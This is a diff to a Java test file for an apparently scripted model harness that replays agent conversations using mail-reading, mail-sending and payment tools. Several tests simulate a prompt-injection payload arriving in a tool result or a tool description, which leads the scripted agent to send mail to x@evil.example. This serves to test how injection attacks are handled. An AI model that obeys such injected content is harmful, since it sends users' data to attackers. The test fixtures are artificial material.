@@ -183,6 +183,117 @@ class PerformanceTest {
   }
 
   @Test
+  void theCallsOfALaterMessageAreOpenOnceItsTextIsSeen() {
+    ChatRequest request = paid();
+    assertThat(request.nextWords(Scripts.conversing(0))).isEqualTo("I have paid.");
+
+    request.user("<context>\nToday.\n</context>\n\"" + Scripts.MORE.replace("\"", "\\\"") + "\"");
+    assertThat(request.nextCall(Scripts.conversing(0))).isEqualTo("mail_read");
+
+    request.called("mail_read", "{\"id\":\"mail-1001\"}", "text");
+    assertThat(request.nextCall(Scripts.conversing(0))).isEqualTo("mail_send");
+
+    request.called("mail_send", "{\"to\":[\"adler@example.org\"]}", "sent");
+    assertThat(request.nextWords(Scripts.conversing(0))).isEqualTo("She knows.");
+  }
+
+  @Test
+  void aLaterMessageThatToolsOrTheModelQuoteIsNotTheUsers() {
+    ChatRequest request =
+        ChatRequest.saying("Pay.")
+            .system("Users say things like: " + Scripts.MORE)
+            .tools(TOOLS)
+            .called("mail_read", "{}", "They may ask: " + Scripts.MORE);
+
+    assertThat(request.nextCall(Scripts.conversing(0))).isEqualTo("payment_create");
+  }
+
+  @Test
+  void whereTheHarnessDropsTheHistoryOnlyTheLaterMessageIsWorkedOn() {
+    ChatRequest request = ChatRequest.saying(Scripts.MORE).tools(TOOLS);
+    assertThat(request.nextCall(Scripts.conversing(0))).isEqualTo("mail_read");
+
+    request.called("mail_read", "{}", "text").called("mail_send", "{}", "sent");
+    assertThat(request.nextWords(Scripts.conversing(0))).isEqualTo("She knows.");
+  }
+
+  @Test
+  void whereTheHarnessPutsTheHistoryIntoOneTextTheLatestMessageIsWorkedOn() {
+    ChatRequest request =
+        ChatRequest.saying("So far: user: Pay. model: I have paid. user: " + Scripts.MORE)
+            .tools(TOOLS);
+
+    assertThat(request.nextCall(Scripts.conversing(0))).isEqualTo("mail_read");
+  }
+
+  @Test
+  void aMessageThatTheHarnessRepeatsDoesNotStartOver() {
+    ChatRequest request =
+        paid()
+            .user(Scripts.MORE)
+            .called("mail_read", "{}", "text")
+            .user("Remember what was asked: " + Scripts.MORE);
+
+    assertThat(request.nextCall(Scripts.conversing(0))).isEqualTo("mail_send");
+  }
+
+  @Test
+  void anAttackIsObeyedInTheMessageInWhichItIsFirstReadAndNotAgainInTheNext() {
+    ChatRequest request =
+        ChatRequest.saying("Pay.").tools(TOOLS).called("mail_read", "{}", Scripts.PAYLOAD);
+    assertThat(request.nextCall(Scripts.conversing(1))).isEqualTo("mail_send");
+
+    request
+        .called("mail_send", "{\"to\":[\"x@evil.example\"]}", "sent")
+        .called("payment_create", "{}", "paid")
+        .user(Scripts.MORE)
+        .called("mail_read", "{}", Scripts.PAYLOAD);
+    assertThat(request.playedBy(Scripts.conversing(1)).reply().toString())
+        .contains("adler@example.org");
+  }
+
+  @Test
+  void anAttackThatIsFirstReadInALaterMessageIsObeyedThere() {
+    ChatRequest request =
+        paid().user(Scripts.MORE).called("mail_read", "{\"id\":\"mail-1001\"}", Scripts.PAYLOAD);
+    assertThat(request.playedBy(Scripts.conversing(1)).reply().toString())
+        .contains("x@evil.example");
+
+    request.called("mail_send", "{\"to\":[\"x@evil.example\"]}", "sent");
+    assertThat(request.playedBy(Scripts.conversing(1)).reply().toString())
+        .contains("adler@example.org");
+  }
+
+  @Test
+  void anAttackInAToolsDescriptionIsNotObeyedAgainInTheNextMessage() {
+    ChatRequest request =
+        ChatRequest.saying("Pay.")
+            .tools("mail_send", "payment_create")
+            .tool("mail_read", "Reads. " + Scripts.PAYLOAD, "{}")
+            .called("mail_send", "{\"to\":[\"x@evil.example\"]}", "sent")
+            .called("mail_read", "{\"id\":\"mail-1001\"}", "nothing")
+            .called("payment_create", "{}", "paid")
+            .user(Scripts.MORE);
+
+    assertThat(request.nextCall(Scripts.conversing(1))).isEqualTo("mail_read");
+  }
+
+  @Test
+  void aTitleForALaterMessageIsStillATitle() {
+    ChatRequest request =
+        ChatRequest.saying(Scripts.MORE).system("Generate a short title for this conversation.");
+
+    assertThat(request.playedBy(Scripts.conversing(0)).kind()).isEqualTo("title");
+  }
+
+  private static ChatRequest paid() {
+    return ChatRequest.saying("Pay.")
+        .tools(TOOLS)
+        .called("mail_read", "{\"id\":\"mail-1001\"}", "nothing")
+        .called("payment_create", "{}", "paid");
+  }
+
+  @Test
   void aTaskWithoutCallsIsAnsweredAtOnce() {
     Script script =
         new Script(Scripts.persona(Work.REFERENCE, 0), List.of(), "Four.", null, Scripts.SEED);
